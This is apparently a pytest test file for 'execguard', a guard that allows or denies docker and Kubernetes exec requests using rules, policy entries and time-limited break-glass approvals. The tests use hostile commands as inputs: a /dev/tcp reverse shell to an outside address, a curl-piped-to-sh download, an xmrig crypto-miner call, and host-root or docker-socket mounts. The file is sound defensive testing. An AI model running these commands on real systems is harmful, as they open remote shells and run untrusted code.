"""The guard decision core: built-in rules + policy deny/allow/mode + break-glass approvals."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from execguard.engine.load import load_rules
from execguard.guard.decide import Approval, Decider, Request
from execguard.policy import PolicyError, parse_policy

RULES = load_rules()
SHELL = ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
NOW = datetime(2026, 12, 2, 6, 0, tzinfo=UTC)


def policy(entries: str) -> str:
    return "apiVersion: execguard/v1\nkind: Policy\nentries:\n" + entries


def test_default_allows_benign_and_denies_high() -> None:
    d = Decider(RULES)
    ok = d.decide(Request("docker", "exec", container="web", argv=["ls", "-l"]))
    assert ok.allowed and ok.rules == ["docker-exec"] and ok.severity == "low"
    bad = d.decide(Request("docker", "exec", container="web", argv=SHELL))
    assert not bad.allowed and bad.mode == "enforce"
    assert bad.rules == ["cmd-reverse-shell"] and "rule cmd-reverse-shell (critical)" in bad.message


@pytest.mark.parametrize(
    "request_",
    [
        Request("docker", "create", image="bb", argv=["sh"], mounts=["/:/host"]),
        Request("docker", "create", image="bb", argv=["sh"], mounts=["/var/run/docker.sock:/var/run/docker.sock"]),
        Request("docker", "create", image="bb", argv=["sh"], host_pid=True),
        Request("k8s", "exec", user="alice", namespace="prod", pod="web", argv=["sh", "-c", "curl -s http://x/m.sh | sh"]),
        Request("k8s", "attach", user="alice", namespace="prod", pod="web", argv=["xmrig", "--donate-level", "1"]),
    ],
)
def test_dangerous_requests_are_denied(request_: Request) -> None:
    decision = Decider(RULES).decide(request_)
    assert not decision.allowed and decision.would_deny and decision.rules


def test_deny_entry_by_namespace_and_labels() -> None:
    p = parse_policy(
        policy(
            "  - name: no-exec-prod\n    action: deny\n    reason: prod is hands-off\n"
            "    match: {namespaces: [prod], labels: ['tier=db*']}\n"
        ),
        "p.yml",
    )
    d = Decider(RULES, p)
    req = Request("k8s", "exec", user="bob", namespace="prod", pod="db-0", labels={"tier": "db-primary"}, argv=["ls"])
    out = d.decide(req)
    assert not out.allowed and out.entry == "no-exec-prod (p.yml:4)" and "prod is hands-off" in out.message
    req.labels = {"tier": "web"}
    assert d.decide(req).allowed


def test_allow_entry_covers_named_rules_only() -> None:
    p = parse_policy(
        policy(
            "  - name: ci\n    action: allow\n    reason: CI smoke test\n    match: {users: [ci-bot], rules: [docker-exec-privileged]}\n"
        )
    )
    d = Decider(RULES, p)
    ok = d.decide(Request("docker", "exec", user="ci-bot", argv=["ls"], privileged=True))
    assert ok.allowed and ok.entry is not None and ok.entry.startswith("ci")
    # the allow names the privilege rule, not the reverse shell the same request also carries
    bad = d.decide(Request("docker", "exec", user="ci-bot", argv=SHELL, privileged=True))
    assert not bad.allowed and bad.rules[0] == "cmd-reverse-shell"


def test_modes_warn_and_audit() -> None:
    p = parse_policy(
        policy(
            "  - name: dev-warn\n    action: mode\n    mode: warn\n    reason: dev learns first\n    match: {namespaces: [dev]}\n"
            "  - name: lab-deny\n    action: deny\n    mode: audit\n    reason: watch the lab\n    match: {namespaces: [lab]}\n"
        )
    )
    d = Decider(RULES, p)
    warn = d.decide(Request("k8s", "exec", user="u", namespace="dev", pod="p", argv=SHELL))
    assert warn.allowed and warn.would_deny and warn.mode == "warn" and "cmd-reverse-shell" in warn.warnings[0]
    audit = d.decide(Request("k8s", "exec", user="u", namespace="lab", pod="p", argv=["ls"]))
    assert audit.allowed and audit.would_deny and audit.mode == "audit" and audit.warnings == []
    enforce = d.decide(Request("k8s", "exec", user="u", namespace="prod", pod="p", argv=SHELL))
    assert not enforce.allowed


def test_break_glass_approval_overrides_and_says_so() -> None:
    grant = Approval("a1", "alice", "prod", NOW + timedelta(minutes=30), "INC-42")

    def lookup(user: str | None, ns: str | None, now: datetime) -> Approval | None:
        return grant if user == grant.user and ns == grant.namespace and now < grant.until else None

    d = Decider(RULES, approvals=lookup)
    req = Request("k8s", "exec", user="alice", namespace="prod", pod="p", argv=SHELL)
    out = d.decide(req, NOW)
    assert out.allowed and out.approval == "a1" and out.would_deny and "INC-42" in out.warnings[0]
    assert not d.decide(req, NOW + timedelta(hours=1)).allowed
    req.user = "mallory"
    assert not d.decide(req, NOW).allowed


def test_severity_entry_rerates_before_the_deny_level() -> None:
    up = "  - name: up\n    action: severity\n    severity: high\n    reason: r\n    match: {rules: [docker-exec-root]}\n"
    p = parse_policy(policy(up))
    out = Decider(RULES, p).decide(Request("docker", "exec", argv=["id"], run_as_user="0"))
    assert not out.allowed and out.rules == ["docker-exec-root"]


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("  - action: deny\n    mode: loud\n    reason: r\n    match: {users: [x]}\n", "5: entry 1 mode 'loud': choose one of"),
        ("  - action: mode\n    reason: r\n    match: {users: [x]}\n", "4: entry 1 (#1): action mode needs mode"),
        ("  - action: allow\n    mode: warn\n    reason: r\n    match: {users: [x]}\n", "5: entry 1: mode applies to action: deny"),
        ("  - action: deny\n    reason: r\n    match: {labels: [app]}\n", "write KEY=VALUE"),
    ],
)
def test_bad_guard_entries_refused_with_line(entry: str, message: str) -> None:
    with pytest.raises(PolicyError) as err:
        parse_policy(policy(entry), "g.yml")
    assert message in str(err.value) and str(err.value).startswith("g.yml:")
